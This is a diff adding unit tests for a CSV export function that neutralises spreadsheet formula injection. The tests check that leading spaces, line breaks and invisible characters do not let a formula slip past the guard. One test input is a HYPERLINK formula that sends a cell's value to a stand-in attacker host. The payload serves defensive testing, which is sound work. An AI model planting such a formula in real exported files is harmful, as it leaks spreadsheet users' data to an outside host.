@@ -27,6 +27,9 @@ test('CSV text is RFC 4180 with CRLF line ends, and formula-like cells are neutr
   assert.equal(csvText([['a', 'b,c', 'say "hi"', 'two\nlines', 'cr\ronly', null, 42]]), 'a,"b,c","say ""hi""","two\nlines","cr\ronly",,42\r\n');
   for (const risky of ['=1+1', '+44', '-3', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseFormula(risky).startsWith(`'${risky[0]}`), true, JSON.stringify(risky));
   assert.equal(neutraliseFormula(-5), "'-5");
+  // Leading white space or a line break does not hide a formula from the guard.
+  for (const risky of [' =HYPERLINK("http://evil.example/?x="&A1,"Click")', '\n=1+1', '\u00a0=2+2', '  +1', '\ufeff@SUM(A1)']) assert.equal(neutraliseFormula(risky), `'${risky}`, JSON.stringify(risky));
+  for (const plain of ['Mill Lane', ' a = b', 'x=1', '']) assert.equal(neutraliseFormula(plain), plain, JSON.stringify(plain));
   assert.equal(neutraliseFormula('a=b'), 'a=b');
   assert.equal(csvText([['=HYPERLINK("http://x")']]), `"'=HYPERLINK(""http://x"")"\r\n`);
 });
